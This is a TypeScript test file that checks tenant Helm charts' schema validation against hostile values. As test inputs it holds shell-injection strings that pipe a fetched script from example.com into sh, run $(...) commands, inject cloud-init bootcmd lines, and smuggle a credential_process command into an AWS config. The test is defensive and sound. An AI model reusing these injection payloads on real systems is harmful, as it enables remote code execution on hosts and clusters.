/**
 * The tenant local charts refuse, at render time (so at every ArgoCD sync, whatever CI ran),
 * the values an attacker with a pull request or a typo would give them: Helm checks the
 * merged values against each chart's values.schema.json (components/fleet/chart-schemas.ts),
 * and the shared values are read last, so no tenant's file changes what every tenant shares.
 */
import * as assert from "node:assert/strict";
import { spawnSync } from "child_process";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { parseAllDocuments, stringify } from "yaml";
import { PROJECT_ROOT } from "../config";
import { toolPath } from "../fleet-tools/render";
import { tenantAddOnValueFiles } from "../components/fleet/application-set";
import { parseFacts } from "../components/fleet/facts";
import { LOCAL_CHARTS } from "../facts/fleet";
import { exampleRoot, plan } from "./helpers";

describe("the tenant local charts' values.schema.json", () => {
  it("are written by the central stack with every tenant's shared values", async () => {
    const central = await plan("central-dev");
    for (const chart of [LOCAL_CHARTS.tenantCluster, LOCAL_CHARTS.tenantControlPlane, LOCAL_CHARTS.tenantGuards, LOCAL_CHARTS.edgeAgent]) {
      const rel = `${chart}/values.schema.json`;
      assert.ok(central.fleetFiles.includes(rel), rel);
      assert.equal(fs.readFileSync(path.join(central.fleetRoot!, rel), "utf8"), fs.readFileSync(path.join(PROJECT_ROOT, rel), "utf8"), `${rel}: npm run fleet -- write`);
    }
  }).timeout(60000);
});

describe("the tenant local charts against hostile or broken values", function () {
  this.timeout(60000);
  const helm = toolPath(PROJECT_ROOT, "helm");
  const charts = { "cluster-manifests": LOCAL_CHARTS.tenantCluster, "control-plane-manifests": LOCAL_CHARTS.tenantControlPlane, guards: LOCAL_CHARTS.tenantGuards, "edge-agent": LOCAL_CHARTS.edgeAgent } as const;
  let dir: string;
  before(function () {
    if (!helm) return this.skip(); // run `bash scripts/install-tools` (CI does)
    dir = fs.mkdtempSync(path.join(os.tmpdir(), "tenant-charts-"));
  });
  after(() => dir && fs.rmSync(dir, { recursive: true, force: true }));

  /** acme's add-on rendered with `tenant` over its own values (in the tenant's place) and `facts` over its facts: the objects, or Helm's error. */
  function render(addon: keyof typeof charts, edits: { tenant?: Record<string, unknown>; facts?: Record<string, unknown> }): { objects: any[]; error: string } {
    const all = tenantAddOnValueFiles("dev", "acme", addon).map((f) => path.join(exampleRoot(), f));
    const [own, facts, shared] = [all[0], all.slice(1, -1), all[all.length - 1]];
    const extra = (name: string, v: Record<string, unknown> | undefined) => {
      if (!v) return [];
      const f = path.join(dir, `${addon}-${name}.yaml`);
      fs.writeFileSync(f, stringify(v));
      return [f];
    };
    const files = [own, ...extra("tenant", edits.tenant), ...facts, ...extra("facts", edits.facts), shared];
    const run = spawnSync(helm as string, ["template", addon, path.join(exampleRoot(), charts[addon]), "--namespace", "tenant-acme", ...files.flatMap((f) => ["--values", f])], { encoding: "utf8" });
    return { objects: run.status === 0 ? parseAllDocuments(run.stdout).map((d) => d.toJS()).filter(Boolean) : [], error: run.stderr };
  }

  it("render acme's objects from its committed files", () => {
    assert.equal(render("cluster-manifests", {}).objects.length, 12);
    const cp = render("control-plane-manifests", {}).objects;
    // Its MariaDB and backup, the secrets' store and three ExternalSecrets, the users, two NodePort Services: no policy, no quota.
    assert.deepEqual(cp.map((o) => o.kind).sort(), ["Backup", "ConfigMap", "ExternalSecret", "ExternalSecret", "ExternalSecret", "MariaDB", "SecretStore", "Service", "Service"]);
    const guards = render("guards", {}).objects;
    // What contains the tenant: its ingress policies, the default deny and five pods' egress allows, its ResourceQuota and LimitRange.
    assert.equal(guards.length, 13);
    assert.deepEqual(guards.filter((o) => o.kind === "NetworkPolicy" && o.spec.policyTypes.includes("Egress")).map((o) => o.metadata.name).sort(), ["backup-egress", "egress-none-by-default", "login-egress", "slurmctld-egress", "slurmdbd-egress", "slurmrestd-egress"]);
    assert.deepEqual(guards.filter((o) => o.kind === "ResourceQuota" || o.kind === "LimitRange").map((o) => o.metadata.namespace), ["tenant-acme", "tenant-acme"]);
  });

  it("name the slurm release's external Controller as central does, through an in-process admission policy, and refuse a name that would reach its CEL", () => {
    const { objects } = render("cluster-manifests", {});
    const policy = objects.find((o) => o.kind === "MutatingAdmissionPolicy");
    const binding = objects.find((o) => o.kind === "MutatingAdmissionPolicyBinding");
    assert.deepEqual(policy.spec.matchConstraints.resourceRules, [{ apiGroups: ["slinky.slurm.net"], apiVersions: ["*"], operations: ["CREATE", "UPDATE"], resources: ["controllers"] }]);
    assert.equal(policy.spec.failurePolicy, "Fail");
    assert.equal(policy.spec.mutations[0].applyConfiguration.expression, 'Object{spec: Object.spec{clusterName: "clusterra-dev-acme"}}');
    assert.deepEqual([binding.spec.policyName, binding.spec.matchResources.namespaceSelector.matchLabels], [policy.metadata.name, { "kubernetes.io/metadata.name": "slurm" }]);
    assert.match(render("cluster-manifests", { tenant: { clusterName: 'x"}}, metadata: Object.metadata{name: "y' } }).error, /at '\/clusterName'/);
  });

  it("refuse shell in any value the workers' boot script takes, naming the key and its pattern", () => {
    const cases: Record<string, unknown>[] = [
      { k3sVersion: "v1.35.3+k3s1'; curl -s https://example.com/x | sh; echo '" },
      { region: "us-east-1 $(id>/tmp/pwn)" },
      { tenantId: "acme$(touch /tmp/owned)" },
      { environment: "dev\nbootcmd:\n  - [sh, -c, 'curl x|sh']" },
    ];
    for (const tenant of cases) {
      const { objects, error } = render("cluster-manifests", { tenant });
      assert.equal(objects.length, 0, JSON.stringify(tenant));
      assert.match(error, new RegExp(`at '/${Object.keys(tenant)[0]}'`), error);
    }
    const { error } = render("cluster-manifests", { facts: { fileSystemId: "fs-1 /mnt/efs efs _netdev 0 0' >> /etc/fstab; curl x|sh; echo '" } });
    assert.match(error, /at '\/fileSystemId': .* does not match pattern/);
  });

  it("keep what every tenant shares whatever the tenant's file says (the shared file is read last)", () => {
    const { objects } = render("cluster-manifests", { tenant: { nodeClass: { spec: { metadataOptions: { httpPutResponseHopLimit: 2 } } } } });
    assert.equal(objects.find((o) => o.kind === "EC2NodeClass")?.spec.metadataOptions.httpPutResponseHopLimit, 1);
    const cp = render("control-plane-manifests", { tenant: { namespaced: [{ apiVersion: "rbac.authorization.k8s.io/v1", kind: "ClusterRoleBinding", metadata: { name: "x" } }] } });
    assert.ok(!cp.objects.some((o) => o.kind === "ClusterRoleBinding"));
    const guards = render("guards", { tenant: { guards: [{ apiVersion: "v1", kind: "ResourceQuota", metadata: { name: "control-plane" }, spec: { hard: { pods: "1000" } } }] } });
    assert.equal(guards.objects.find((o) => o.kind === "ResourceQuota")?.spec.hard.pods, "10");
  });

  it("refuse an srun block that is not the contract's size or runs backwards, and a NodePort off the range", () => {
    assert.match(render("control-plane-manifests", { tenant: { srunPorts: { from: 32739, to: 32730 } } }).error, /srunPorts 32739-32730 is not a block of 10 ports/);
    assert.match(render("control-plane-manifests", { tenant: { srunPorts: { from: 30000, to: 32767 } } }).error, /is not a block of 10 ports/);
    assert.match(render("guards", { tenant: { srunPorts: { from: 32739, to: 32730 } } }).error, /srunPorts 32739-32730 is not a block of 10 ports/);
    assert.match(render("guards", { tenant: { tenantCidr: "0.0.0.0/0" } }).error, /at '\/tenantCidr'/);
    assert.match(render("control-plane-manifests", { facts: { slurmctld: { port: 80 } } }).error, /at '\/slurmctld\/port': .*minimum/);
    assert.match(render("control-plane-manifests", { facts: { centralHostIp: "999.0.0.10" } }).error, /at '\/centralHostIp'/);
  });

  it("refuse a value that YAML would splice into the object (a region with a newline)", () => {
    assert.match(render("control-plane-manifests", { tenant: { centralRegion: "us-east-1\n      auth: {}" } }).error, /at '\/centralRegion'/);
  });

  it("refuse a role ARN that would add a line to the edge-agent's AWS config (credential_process runs a command)", () => {
    const arn = "arn:aws:iam::444455556666:role/clusterra-dev-acme-edge-agent\ncredential_process = sh -c 'curl -s https://example.com/x | sh'";
    assert.match(render("edge-agent", { facts: { edgeAgentRoleArn: arn } }).error, /at '\/edgeAgentRoleArn': .* does not match pattern/);
    const facts = parseFacts("tenant", fs.readFileSync(path.join(exampleRoot(), "fleet/tenants/dev/acme/facts.yaml"), "utf8").replace(/^edgeAgentRoleArn: .*$/m, `edgeAgentRoleArn: ${JSON.stringify(arn)}`));
    assert.ok("problems" in facts && facts.problems.some((p) => p.key === "edgeAgentRoleArn"), JSON.stringify(facts));
  });
});
